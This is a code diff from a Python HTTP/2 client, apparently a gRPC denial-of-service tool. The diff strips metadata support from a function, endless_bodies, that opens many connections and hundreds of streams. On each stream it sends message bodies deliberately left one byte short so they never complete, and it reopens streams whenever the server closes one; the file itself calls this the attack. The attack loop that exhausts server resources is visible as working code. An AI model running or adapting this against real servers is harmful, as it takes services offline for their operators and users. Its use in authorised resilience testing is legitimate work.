@@ -6,7 +6,7 @@ the connection and with it the attack.
 
 import asyncio
 import ssl
-from collections.abc import AsyncIterator, Iterable
+from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from itertools import count
 from typing import Self
@@ -32,7 +32,6 @@ class Connection:
         self._stream_windows: dict[int, int] = {}
         self._news = asyncio.Condition()
         self.open: set[int] = set()
-        self.answered: set[int] = set()
         self.ended = self.ready = False
         self.pongs = 0
         self.goaway = b""
@@ -47,10 +46,10 @@ class Connection:
         writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
         return cls(reader, writer)
 
-    async def call(self, method: str, metadata: Iterable[tuple[str, str]] = ()) -> int:
+    async def call(self, method: str) -> int:
         """Open a stream for ``/package.Service/Method``; its identifier."""
         number = next(self._streams)
-        block = b"".join(_field(name, value) for name, value in (*_request(method), *metadata))
+        block = b"".join(_field(name, value) for name, value in _request(method))
         self._stream_windows[number] = self._initial
         self.open.add(number)
         self._writer.write(_frame(_HEADERS, _END_HEADERS, number, block))
@@ -168,7 +167,6 @@ class Connection:
                 else:
                     self._window += size
             case 1:
-                self.answered.add(stream)
                 if flags & 1:
                     self.open.discard(stream)
             case 3:
@@ -185,7 +183,6 @@ async def endless_bodies(
     length: int,
     connections: int = 10,
     streams: int = 100,
-    metadata: Iterable[tuple[str, str]] = (),
 ) -> AsyncIterator[list[Connection]]:
     """Send messages that never end for as long as the block lasts, anew whenever the server ends one.
 
@@ -196,15 +193,14 @@ async def endless_bodies(
             server's limit would be refused at once.
         connections: Number of connections.
         streams: Concurrent streams of each.
-        metadata: Of each call.
     """
-    given, unfinished = list(metadata), bytes(length - 1)
+    unfinished = bytes(length - 1)
     made: list[Connection] = []
 
     async def one(connection: Connection) -> None:
         while not connection.ended:
             try:
-                stream = await connection.call(method, given)
+                stream = await connection.call(method)
                 await connection.begin_message(stream, length)
                 await connection.body(stream, unfinished)
                 await connection.wait_over(stream)
